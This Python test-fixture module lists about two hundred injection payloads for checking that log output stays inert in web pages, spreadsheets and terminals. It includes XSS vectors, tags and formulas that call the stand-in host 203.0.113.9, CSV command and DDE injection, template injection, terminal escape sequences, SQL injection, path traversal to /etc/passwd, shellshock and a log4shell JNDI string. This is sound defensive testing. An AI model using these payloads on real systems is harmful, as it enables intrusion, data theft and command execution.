"""Two hundred log lines that a page, a spreadsheet or a terminal would obey if they did not stay text."""

from __future__ import annotations

_OWN = "document.documentElement.setAttribute('data-owned','1')"
_SCRIPTS = (
    f"<script>{_OWN}</script>", f"</script><script>{_OWN}</script>", f"<ScRiPt>{_OWN}</sCrIpT>",
    f"<img src=x onerror=\"{_OWN}\">", f"<img/src=x/onerror={_OWN}>", f"<svg onload=\"{_OWN}\">",
    f"<svg><animate onbegin=\"{_OWN}\" attributeName=x dur=1s>", f"<body onload=\"{_OWN}\">",
    f"<details open ontoggle=\"{_OWN}\">", f"<input autofocus onfocus=\"{_OWN}\">",
    f"<video><source onerror=\"{_OWN}\">", f"<iframe srcdoc=\"<script>{_OWN}</script>\"></iframe>",
    f"<a href=\"javascript:{_OWN}\">x</a>", f"<math><mtext></p><script>{_OWN}</script>",
    f"--><script>{_OWN}</script>", f"<!--><script>{_OWN}</script>-->", f"</title><script>{_OWN}</script>",
    f"</style><script>{_OWN}</script>", f"</textarea><script>{_OWN}</script>", f"</noscript><script>{_OWN}</script>",
    f"\"><script>{_OWN}</script>", f"'><script>{_OWN}</script>", f"` onmouseover={_OWN} x=`",
    f"\" onfocus=\"{_OWN}\" autofocus x=\"", f"' onfocus='{_OWN}' autofocus x='",
    f"&lt;script&gt;{_OWN}&lt;/script&gt;", f"&#60;script&#62;{_OWN}&#60;/script&#62;", f"\\u003cscript\\u003e{_OWN}",
    f"%3Cscript%3E{_OWN}%3C/script%3E", f"<scr<script>ipt>{_OWN}</scr</script>ipt>", f"<\x00script>{_OWN}</script>",
    f"<script\x0c>{_OWN}</script>", "<base href=http://203.0.113.9/>",
    "<meta http-equiv=refresh content=0;url=//203.0.113.9>", "<link rel=stylesheet href=//203.0.113.9/x.css>",
    "<style>@import '//203.0.113.9/x.css';</style>", "<form action=//203.0.113.9><input type=submit>",
    "<object data=//203.0.113.9/x.swf>", "<embed src=//203.0.113.9/x>", "<img src=//203.0.113.9/leak.png>",
    "<marquee>x</marquee>", "<plaintext>", "<xmp>", "<table><tr><td>", "</bdi></td></tr></table>",
    "</details></li></ol></section></main></body></html>", "]]>", "<![CDATA[<script>]]>", "<?xml version='1.0'?>",
    "<!doctype html>",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}", "{{ ''.__class__.__mro__ }}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('x')()}}", "%s%s%n", "{0}{1}", "%(x)s", "$(id)",
    "`id`", "!{x}", "[[ $x ]]", "{{=<% %>=}}", "__import__('os')", "\\N{DIGIT ONE}", "\\x41",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://203.0.113.9\",\"x\")", "\t=1+1",
    "\r=1+1", "=IMPORTXML(\"http://203.0.113.9\",\"//a\")", "=WEBSERVICE(\"http://203.0.113.9\")", "\"=1+1\"",
    "',=1+1,'", ";=1+1", "|=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "%0A=1+1", "\uff1d1+1", "=1+1\";\"x", "\"\"\"",
    "a,b;c\td\"e'f",
)  # fmt: skip
_TERMINAL = (
    "\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]8;;http://203.0.113.9\x07x\x1b]8;;\x07",
    "\x1b[8mhidden\x1b[0m", "\x1b]52;c;b3duZWQ=\x07", "\x1bP$q\"p\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x1b[1;1H",
    "\x1bc", "\x9b31m", "\x9d0;owned\x9c", "\x90x\x9c", "a\rb", "a\x08\x08\x08b", "a\x7fb", "\x07\x07\x07", "\x00",
    "a\x0bb", "a\x0cb", "\x0e\x0f", "\x1b(0lqqk", "\x1b[38;2;0;0;0m\x1b[48;2;0;0;0m", "\x05", "\x1b[5i", "\x1b#8",
    "\x1b[=3h", "\x84\x85\x8d", "\x1b[201~",
)  # fmt: skip
_UNICODE = (
    "\u202egnp.exe\u202c", "\u2066x\u2069", "\u200bz\u200b", "\ufeffx", "\u2028x\u2029", "\u00adx", "\u061cx",
    "\u180ex", "\u2060x", "\ufffe", "\uffff", "\U000e0041\U000e007f", "\udc9b", "\ud800", "e\u0301" * 40,
    "\u0f00\u0f71" * 40, "\uff1cscript\uff1e", "\u02bcx", "\u0430dmin", "\U0001f4a3", "\u3164x", "\u115fx", "\u2800x",
    "\u034fx", "\ufff9x\ufffb", "\u200d" * 20, "I\u0307", "\ufdfa" * 30, "\U0001d5e8", "\u1d2c",
)  # fmt: skip
_LONG = (
    "A" * 5000, "<" * 1000, "&" * 1000, "\"" * 1000, "\x1b[31m" * 200, "../" * 300, "a " * 2000, "0" * 400,
    "\u202e" * 300, "'" * 500,
)  # fmt: skip
_QUERIES = (
    "' OR '1'='1", "1; DROP TABLE scores;--", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f",
    "file:///etc/passwd", "javascript:alert(1)", "data:text/html,<script>1</script>", "vbscript:x",
    "http://203.0.113.9/\r\nX-Owned: 1", "x\r\nSet-Cookie: a=b", "$where: 1", "{\"$gt\": \"\"}", "*)(uid=*",
    "() { :;}; echo x", "|| true", "; ls", "& dir", "> /tmp/x", "<(id)", "${jndi:ldap://203.0.113.9/x}", "%00", "nan",
    "NaN", "null", "undefined", "true", "-0", "1e999", "Infinity", "\\", "\\\\", "/", "//", "?", "#", "&amp;",
    "&nbsp;", "&#x0;", "&unknown;",
)  # fmt: skip

PAYLOADS = (*_SCRIPTS, *_TEMPLATES, *_FORMULAS, *_TERMINAL, *_UNICODE, *_LONG, *_QUERIES)
OBEYED = "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f]"
"""Characters that must not come out of any output; line feeds and tabs are the outputs' own."""
